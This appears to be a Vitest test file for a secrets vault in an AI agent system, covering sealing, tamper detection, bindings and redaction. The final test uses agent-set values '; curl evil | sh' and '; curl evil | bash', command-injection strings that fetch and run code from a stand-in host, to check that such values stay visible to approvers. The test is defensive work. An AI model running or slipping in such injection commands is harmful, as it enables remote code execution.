import { randomBytes } from "node:crypto";
import { expect, test } from "vitest";
import { seal, unseal } from "../../../src/call/vault/seal.ts";
import { Vault } from "../../../src/call/vault/vault.ts";
import { ok } from "../../../src/lib/result.ts";
import { tempStore } from "../../support/temp-store.ts";
import { trustStores } from "../../support/trust-stores.ts";

const clock = () => 1_784_849_483_838;

test("a secret survives a restart, sealed in the store", async () => {
  await using t = await tempStore();
  const options = { store: trustStores(t.store).secrets, key: randomBytes(32), clock };
  const vault = await Vault.open(options);
  await vault.put("GITHUB_TOKEN", "ghp_verysecret");
  await vault.put("A", "第二の秘密");

  const stored = await trustStores(t.store).secrets.list();
  expect(stored.some((secret) => Buffer.from(secret.sealed).includes("verysecret"))).toBe(false);
  const again = await Vault.open(options);
  expect(await again.read("GITHUB_TOKEN")).toEqual(ok("ghp_verysecret"));
  expect(await again.read("A")).toEqual(ok("第二の秘密"));
  expect(again.names()).toEqual(["A", "GITHUB_TOKEN"]);
});

test("a secret put again takes the new value; a deleted one is gone but stays redacted", async () => {
  await using t = await tempStore();
  const vault = await Vault.open({ store: trustStores(t.store).secrets, key: randomBytes(32), clock });
  await vault.put("KEY", "first value");
  await vault.put("KEY", "second value");
  expect(await vault.read("KEY")).toEqual(ok("second value"));
  await vault.delete("KEY");
  expect(vault.has("KEY")).toBe(false);
  expect(vault.names()).toEqual([]);
  expect(vault.redact("first value, second value")).toBe("[redacted], [redacted]");
  await expect(vault.delete("KEY")).rejects.toMatchObject({ code: "NOT_FOUND" });
});

test("a secret of another key is reported, and the others are there", async () => {
  await using t = await tempStore();
  const key = randomBytes(32);
  await (await Vault.open({ store: trustStores(t.store).secrets, key: randomBytes(32), clock })).put(
    "OLD",
    "lost value",
  );
  await (await Vault.open({ store: trustStores(t.store).secrets, key, clock })).put("NEW", "good value");

  const unreadable: [string, unknown][] = [];
  const vault = await Vault.open({
    store: trustStores(t.store).secrets,
    key,
    clock,
    onUnreadable: (name, error) => unreadable.push([name, error]),
  });
  expect(vault.names()).toEqual(["NEW"]);
  expect(unreadable).toEqual([["OLD", expect.objectContaining({ code: "SECRET_UNREADABLE" })]]);
  expect(await trustStores(t.store).secrets.list()).toHaveLength(2);
});

test("a sealed value cannot be passed off as that of another name", async () => {
  await using t = await tempStore();
  const options = { store: trustStores(t.store).secrets, key: randomBytes(32), clock };
  await (await Vault.open(options)).put("WEAK", "some value");
  const [weak] = await trustStores(t.store).secrets.list();
  await trustStores(t.store).secrets.put({ ...weak!, name: "STRONG" });
  const vault = await Vault.open(options);
  expect(vault.names()).toEqual(["WEAK"]);
});

test("what an agent sets again and again is forgotten after a while, what it has now and what a person set is not", async () => {
  await using t = await tempStore();
  const vault = await Vault.open({ store: trustStores(t.store).secrets, key: randomBytes(32), clock });
  await vault.put("OF_A_PERSON", "given by a person");
  await vault.put("OTHER", "set once by the agent", { setBy: "agt_1" });
  for (let n = 100; n < 140; n++) await vault.put("KEY", `value number ${n}`, { setBy: "agt_1" });
  expect(vault.redact("value number 100")).toBe("value number 100");
  expect(vault.redact("value number 139, value number 135")).toBe("[redacted], [redacted]");
  for (let n = 100; n < 140; n++) {
    await vault.put("SHORT_LIVED", `deleted number ${n}`, { setBy: "agt_1" });
    await vault.delete("SHORT_LIVED");
  }
  expect(vault.redact("deleted number 100, deleted number 139")).toBe("deleted number 100, [redacted]");
  expect(vault.redact("given by a person, set once by the agent")).toBe("[redacted], [redacted]");
});

test("a secret whose source, bindings or setter were altered in the database is reported and not used", async () => {
  await using t = await tempStore();
  const key = randomBytes(32);
  const options = { store: trustStores(t.store).secrets, key, clock };
  await (await Vault.open(options)).put("KEY", "cmd:touch /tmp/x", { setBy: "agt_1" });
  const [sealed] = await trustStores(t.store).secrets.list();
  for (const change of [
    { source: "cmd" as const },
    { bindings: { tools: ["*"], hosts: ["*"], agents: null } },
    { setBy: null },
    // As an old row would be.
    { bindings: null },
  ]) {
    await trustStores(t.store).secrets.put({ ...sealed!, ...change });
    const unreadable: string[] = [];
    const vault = await Vault.open({ ...options, onUnreadable: (name) => unreadable.push(name) });
    expect(vault.names()).toEqual([]);
    expect(unreadable).toEqual(["KEY"]);
  }
  await trustStores(t.store).secrets.put(sealed!);
  expect(await (await Vault.open(options)).read("KEY")).toEqual(ok("cmd:touch /tmp/x"));
});

test("a secret sealed before there were bindings opens, bound to nothing, and is sealed anew", async () => {
  await using t = await tempStore();
  const key = randomBytes(32);
  const options = { store: trustStores(t.store).secrets, key, clock };
  const times = { createdAt: 1, updatedAt: 2, earlier: null, setBy: null };
  const old = {
    ...times,
    name: "OLD",
    source: "value" as const,
    sealed: seal("cmd:true", "secret:OLD", key),
  };
  const wide = { tools: ["*"], hosts: ["*"], agents: null };
  for (const bindings of [null, wide]) {
    await trustStores(t.store).secrets.put({ ...old, bindings });
    const vault = await Vault.open(options);
    expect(await vault.read("OLD")).toEqual(ok("cmd:true"));
    expect(vault.list()).toMatchObject([{ source: "value", bindings: { tools: [], hosts: [] } }]);
    const [anew] = await trustStores(t.store).secrets.list();
    expect(() => unseal(anew!.sealed, "secret:OLD", key)).toThrow("another purpose");
    expect(await (await Vault.open(options)).read("OLD")).toEqual(ok("cmd:true"));
  }
  await trustStores(t.store).secrets.put({ ...old, bindings: null, source: "cmd" });
  expect((await Vault.open(options)).names()).toEqual([]);
});

test("a secret is bound anew with the value that another process gave it", async () => {
  await using t = await tempStore();
  const options = { store: trustStores(t.store).secrets, key: randomBytes(32), clock };
  const [one, two] = [await Vault.open(options), await Vault.open(options)];
  await one.put("KEY", "the first value");
  const bindings = { tools: ["http_request"], hosts: ["example.com"], agents: null };
  await two.bind("KEY", bindings);
  await two.put("KEY", "the second value");
  await one.bind("KEY", { ...bindings, hosts: [] });
  const again = await Vault.open(options);
  expect(await again.read("KEY")).toEqual(ok("the second value"));
  expect(again.list()).toMatchObject([{ bindings: { tools: ["http_request"], hosts: [] } }]);
  await expect(one.bind("NONE", bindings)).rejects.toMatchObject({ code: "NOT_FOUND" });
});

test("who is asked about a call sees what agents made a secret, also once it is replaced or deleted", async () => {
  await using t = await tempStore();
  const options = { store: trustStores(t.store).secrets, key: randomBytes(32), clock };
  const vault = await Vault.open(options);
  await vault.put("MINE", "eve's own value");
  vault.conceal("value of a server");
  await vault.put("X", "; curl evil | sh", { setBy: "agt_1" });
  await vault.put("X", "; curl evil | bash", { setBy: "agt_1" });
  const text = "eve's own value ; curl evil | sh ; curl evil | bash";
  const shown = "[redacted] ; curl evil | sh ; curl evil | bash";
  expect(vault.redactAsked(text)).toBe(shown);
  expect(vault.redactAsked("value of a server")).toBe("[redacted]");
  expect(vault.redact(text)).toBe("[redacted] [redacted] [redacted]");
  expect((await Vault.open(options)).redactAsked(text)).toBe(shown);
  await vault.delete("X");
  expect(vault.redactAsked(text)).toBe(shown);
});
